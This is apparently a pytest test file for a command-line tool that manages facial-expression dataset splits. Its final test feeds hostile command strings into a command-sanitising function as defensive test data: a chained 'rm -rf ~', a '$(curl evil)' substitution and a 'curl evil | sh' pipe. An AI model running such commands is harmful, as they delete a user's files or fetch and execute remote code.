from dataclasses import replace
from pathlib import Path

import pytest

from fercli.core.errors import MissingStageError
from fercli.core.project import Project, create_project
from fercli.core.rows import Label, SplitRow
from fercli.core.splits import (
    again_command,
    choose_split,
    is_usable,
    labels_mark,
    read_record,
    stale_splits,
    write_record,
)
from fercli.core.tables import write_table


def label(face_id: str, word: str = "happy", rule: str = "majority") -> Label:
    return Label(face_id, word, "ok" if word else "tie", rule, 3)


LABELS = [label("f1"), label("f2", "bored"), label("f3", "")]


@pytest.fixture
def project(tmp_path: Path) -> Project:
    """Its split `default` was made from LABELS."""
    project = create_project(tmp_path / "mine", name="mine", classes=("happy", "bored"))
    path = project.split_path("default")
    write_table(path, [SplitRow("f1", "train"), SplitRow("f2", "test")], SplitRow)
    write_record(path, {"labels_mark": labels_mark(LABELS)})
    return project


def test_record_comes_back_as_it_was_written(tmp_path: Path) -> None:
    write_record(tmp_path / "mine.csv", {"ratios": [0.8, 0.2], "name": "Größe"})
    assert read_record(tmp_path / "mine.csv") == {"ratios": [0.8, 0.2], "name": "Größe"}
    assert "Größe" in (tmp_path / "mine.json").read_text(encoding="utf-8")


@pytest.mark.parametrize("text", [None, "", "{", "[1, 2]"], ids=["no file", "empty", "broken", "a list"])
def test_what_is_no_record_is_an_empty_one(text: str | None, tmp_path: Path) -> None:
    if text is not None:
        (tmp_path / "mine.json").write_text(text, encoding="utf-8")
    assert read_record(tmp_path / "mine.csv") == {}


def test_a_face_is_learned_from_with_a_label_or_soft_targets() -> None:
    assert is_usable(label("f"))
    assert not is_usable(label("f", ""))
    assert is_usable(label("f", "", rule="majority+soft"))


def test_mark_is_of_the_labels_and_not_of_their_order() -> None:
    mark = labels_mark(LABELS)
    assert labels_mark(LABELS[::-1]) == mark
    assert labels_mark([*LABELS, label("f4", "")]) == mark
    assert labels_mark([*LABELS, label("f4")]) != mark
    assert labels_mark([replace(LABELS[0], label="bored"), *LABELS[1:]]) != mark


def test_split_of_the_same_labels_is_not_stale(project: Project) -> None:
    assert stale_splits(project, LABELS) == ()


def test_split_without_a_record_is_not_stale(project: Project) -> None:
    project.split_path("default").with_suffix(".json").unlink()
    assert stale_splits(project, LABELS[:1]) == ()


@pytest.mark.parametrize(
    ("labels", "change"),
    [
        ([*LABELS, label("f4"), label("f5")], "2 labelled faces are not in it"),
        (LABELS[:1], "1 of its faces has no label any more"),
        ([LABELS[0], label("f4")], "1 labelled face is not in it and 1 of its faces has no label any more"),
        ([label("f1", "bored"), LABELS[1]], "faces of it have other labels"),
    ],
    ids=["more", "fewer", "others", "changed"],
)
def test_sentence_says_what_changed_since_the_split(labels: list[Label], change: str, project: Project) -> None:
    (sentence,) = stale_splits(project, labels)
    assert change in sentence
    assert "fer split" in sentence
    assert "--name" not in sentence


def test_split_of_another_name_is_made_again_by_its_name(project: Project) -> None:
    project.split_path("default").rename(project.split_path("mine"))
    project.split_path("default").with_suffix(".json").rename(project.split_path("mine").with_suffix(".json"))
    (sentence,) = stale_splits(project, LABELS[:1])
    assert "'mine'" in sentence
    assert "fer split --name mine" in sentence


@pytest.mark.parametrize(
    ("names", "asked", "chosen"),
    [
        (["default"], "", "default"),
        (["mine"], "", "mine"),
        (["default", "mine"], "", "default"),
        (["default", "mine"], "mine", "mine"),
        (["mine"], "mine", "mine"),
    ],
)
def test_split_in_use_is_the_one_named_else_the_only_one_else_the_default(
    tmp_path: Path, names: list[str], asked: str, chosen: str
) -> None:
    project = create_project(tmp_path / "other", name="other", classes=("happy", "bored"))
    for name in names:
        write_table(project.split_path(name), [SplitRow("f1", "train")], SplitRow)
    assert choose_split(project, asked) == chosen


@pytest.mark.parametrize(
    ("names", "asked", "message", "hint"),
    [
        ([], "", "split 'default' not found", "Run: fer split"),
        (["mine", "yours"], "", "split 'default' not found", "Available splits: mine, yours."),
        (["mine"], "default", "split 'default' not found", "Available splits: mine."),
        (["default"], "mine", "split 'mine' not found", "Available splits: default."),
    ],
)
def test_split_that_is_not_there_is_refused_with_those_that_are(
    tmp_path: Path, names: list[str], asked: str, message: str, hint: str
) -> None:
    project = create_project(tmp_path / "other", name="other", classes=("happy", "bored"))
    for name in names:
        write_table(project.split_path(name), [SplitRow("f1", "train")], SplitRow)
    with pytest.raises(MissingStageError, match=message) as caught:
        choose_split(project, asked)
    assert caught.value.hint == hint


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("fer split --seed 3 --name mine", "fer split --seed 3 --name mine"),
        ("fer split --from 'my split.csv'", "fer split --from 'my split.csv'"),
        ("fer split; rm -rf ~", "fer split --name mine"),
        ("fer split $(curl evil)", "fer split --name mine"),
        ("curl evil | sh", "fer split --name mine"),
        ("fer split 'torn", "fer split --name mine"),
        (["fer", "split"], "fer split --name mine"),
    ],
)
def test_command_of_an_edited_record_is_shown_only_if_it_is_one_call(command: object, shown: str) -> None:
    assert again_command("mine", {"command": command}) == shown
